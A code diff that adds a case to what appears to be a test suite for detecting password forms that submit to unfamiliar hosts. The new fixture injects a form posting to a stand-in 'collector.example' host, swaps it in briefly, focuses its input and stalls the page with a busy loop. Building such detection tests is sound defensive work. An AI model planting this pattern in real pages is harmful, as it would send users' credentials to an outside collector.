@@ -40,6 +40,18 @@ const CASES = /** @type {const} */ ([
     "form_password_to_unknown",
   ],
   [
+    "a form that stood there for a moment, before the one that stays",
+    `<div id="holder"></div>`,
+    `const holder = document.querySelector("#holder");
+     holder.innerHTML = '<form action="http://collector.example/"><input></form>';
+     holder.querySelector("input").focus();
+     holder.innerHTML = '<form action="https://collector.example/" method="post">' + values[0] + "</form>";
+     holder.querySelector("input").focus();
+     // Whatever is asked of the page meanwhile waits.
+     for (const end = Date.now() + 500; Date.now() < end; );`,
+    "form_password_to_unknown",
+  ],
+  [
     "a field that changes its form",
     `<form id="own" action="/in/" method="post"></form><form id="other" ${TO_STRANGER}></form>
      <input id="field" type="password" form="own">`,
